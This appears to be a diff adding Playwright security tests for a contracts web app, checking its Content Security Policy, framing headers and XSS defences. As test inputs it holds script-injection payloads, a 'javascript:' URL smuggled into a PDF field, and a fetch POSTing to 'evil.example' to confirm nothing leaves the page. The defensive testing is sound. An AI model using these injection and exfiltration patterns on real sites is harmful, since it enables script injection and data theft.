@@ -1,0 +1,166 @@
+import { expect, type Page, test } from '@playwright/test';
+import accounts from '../../mocks/demo/accounts.json' with { type: 'json' };
+import { expectQuiet, watchPage } from './page-watch';
+import { Person } from './person';
+
+const ROUTES = [
+  '/contracts',
+  '/contracts/create',
+  '/contracts/new',
+  '/contracts/templates',
+  '/contracts/customize',
+  '/contracts/clauses',
+  '/devel',
+  '/no/such/page',
+];
+
+async function enterAsDemo(page: Page): Promise<void> {
+  const [ana] = accounts;
+  await page.goto('/login');
+  await page.getByLabel('Email').fill(ana?.email ?? '');
+  await page.getByLabel('Password').fill(ana?.password ?? '');
+  await page.getByRole('button', { name: 'Login', exact: true }).click();
+  await expect(page).toHaveURL(/\/contracts$/);
+}
+
+/** The script tried each way that markup has; the answer tells which of them ran. */
+async function scriptsThatRan(page: Page): Promise<string[]> {
+  return page.evaluate(async () => {
+    const ran: string[] = [];
+    Object.assign(window, { ran });
+    const inline = document.createElement('script');
+    inline.textContent = 'window.ran.push("inline")';
+    const data = document.createElement('script');
+    data.src = 'data:text/javascript,window.ran.push("data")';
+    const blob = document.createElement('script');
+    blob.src = URL.createObjectURL(new Blob(['window.ran.push("blob")'], { type: 'text/javascript' }));
+    const holder = document.createElement('div');
+    holder.innerHTML =
+      '<img src="/none" onerror="window.ran.push(\'handler\')"><iframe srcdoc="<script>parent.ran.push(1)</script>">';
+    document.body.append(inline, data, blob, holder);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return ran;
+  });
+}
+
+test('every screen keeps to its policy and to its own origin', async ({ page, baseURL }) => {
+  const watch = await watchPage(page, new URL(baseURL ?? '').origin);
+  await enterAsDemo(page);
+  const contracts = await page
+    .locator('a[href^="/contracts/"]')
+    .evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
+  const own = [...new Set(contracts)].filter((path) => !ROUTES.includes(path));
+  expect(own.length).toBeGreaterThan(1);
+  for (const path of [...ROUTES, ...own, `${own[0]}/join`]) {
+    await page.goto(path);
+    await expect(page.getByRole('heading').first()).toBeVisible();
+    await page.waitForLoadState('networkidle');
+  }
+  expectQuiet(watch);
+});
+
+test('keys are made under the policy, in a worker that has its own', async ({ browser, baseURL }) => {
+  const ana = await Person.arrive(browser, 'ana', baseURL ?? '');
+  const watch = await watchPage(ana.page, new URL(baseURL ?? '').origin);
+  const policies: (string | undefined)[] = [];
+  ana.page.on('response', (response) => {
+    if (/\/assets\/worker/.test(response.url())) policies.push(response.headers()['content-security-policy']);
+  });
+  await ana.registerAndLogIn();
+  expect(policies.length).toBeGreaterThan(0);
+  for (const policy of policies) expect(policy).toMatch(/default-src 'none'; .*connect-src 'self'/);
+  expectQuiet(watch);
+  await ana.page.context().close();
+});
+
+test('what gets into the page does not run, and nothing leaves it', async ({ page, baseURL }) => {
+  const watch = await watchPage(page, new URL(baseURL ?? '').origin);
+  await enterAsDemo(page);
+  expect(await scriptsThatRan(page)).toEqual([]);
+  for (const directive of [
+    'script-src-elem inline',
+    'script-src-elem data',
+    'script-src-elem blob',
+    'script-src-attr',
+  ]) {
+    expect(watch.violations.join('\n')).toContain(directive);
+  }
+  const left = await page.evaluate(() =>
+    fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }).then(
+      () => 'sent',
+      () => 'kept',
+    ),
+  );
+  expect([left, watch.strangers]).toEqual(['kept', []]);
+});
+
+test('nobody may frame the page', async ({ page, request }) => {
+  const headers = (await request.get('/login')).headers();
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+  expect(headers).toMatchObject({ 'referrer-policy': 'no-referrer', 'x-content-type-options': 'nosniff' });
+  await page.goto('/login');
+  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+  expect(policy).toContain("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'");
+});
+
+test('what people write is text, and only addresses that are meant are opened', async ({ browser, baseURL }) => {
+  const evil = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
+  const ana = await Person.arrive(browser, 'ana', baseURL ?? '');
+  const watch = await watchPage(ana.page, new URL(baseURL ?? '').origin);
+  await ana.registerAndLogIn();
+  await ana.createContract(`Roof ${evil}`, `Tiles ${evil}`, 'Save as Draft');
+  await expect(ana.page.getByText(`Tiles ${evil}`)).toBeVisible();
+  await contractWithPdf(ana.page, 'javascript:window.pwned=1//a.pdf');
+  await expect(ana.page.getByText('not one that can be opened safely')).toBeVisible();
+  expect(await ana.page.locator('a[href^="javascript"], main img').count()).toBe(0);
+  expect(await ana.page.evaluate(() => 'pwned' in window)).toBe(false);
+  expectQuiet(watch);
+  await ana.page.context().close();
+});
+
+test('chat messages are text', async ({ page, baseURL }) => {
+  const watch = await watchPage(page, new URL(baseURL ?? '').origin);
+  await enterAsDemo(page);
+  await page.getByRole('link', { name: 'Roof', exact: false }).first().click();
+  const words = `<b>hello</b> <img src=x onerror="window.pwned=1"> ${Date.now()}`;
+  await page.getByPlaceholder('Type your message...').fill(words);
+  await page.getByRole('button', { name: 'Send', exact: true }).click();
+  await expect(page.getByText(words)).toBeVisible();
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+  expectQuiet(watch);
+});
+
+test('the test explorer has a policy of its own', async ({ page, baseURL }) => {
+  const watch = await watchPage(page, new URL(baseURL ?? '').origin);
+  await page.goto('/explorer/address/bcrt1qw508d6qejxtdg4y5r3zarvary0c5xw7kygt080');
+  await page.getByRole('button', { name: /send/i }).click();
+  await expect(page).toHaveURL(/sent=/);
+  expect(await page.evaluate(() => getComputedStyle(document.body).marginTop)).toBe('0px');
+  expectQuiet(watch);
+  expect(await scriptsThatRan(page)).toEqual([]);
+});
+
+/** A contract as a hostile backend would hand it out: its PDF's address was never typed into this app. */
+async function contractWithPdf(page: Page, pdf_url: string): Promise<void> {
+  const id = await page.evaluate(async (url) => {
+    const { id: owner } = JSON.parse(localStorage.getItem('user') ?? '{}');
+    const draft = {
+      title: 'With a PDF',
+      description: 'x',
+      contract_order: 0,
+      status: 'draft',
+      pdf_url: url,
+      contractors: [owner],
+      arbitrator: '1',
+      guarantees: [],
+    };
+    const answer = await fetch('/api/contracts', {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify(draft),
+    });
+    return (await answer.json()).data.id;
+  }, pdf_url);
+  await page.goto(`/contracts/${id}`);
+  await expect(page.getByRole('heading', { name: 'With a PDF' })).toBeVisible();
+}
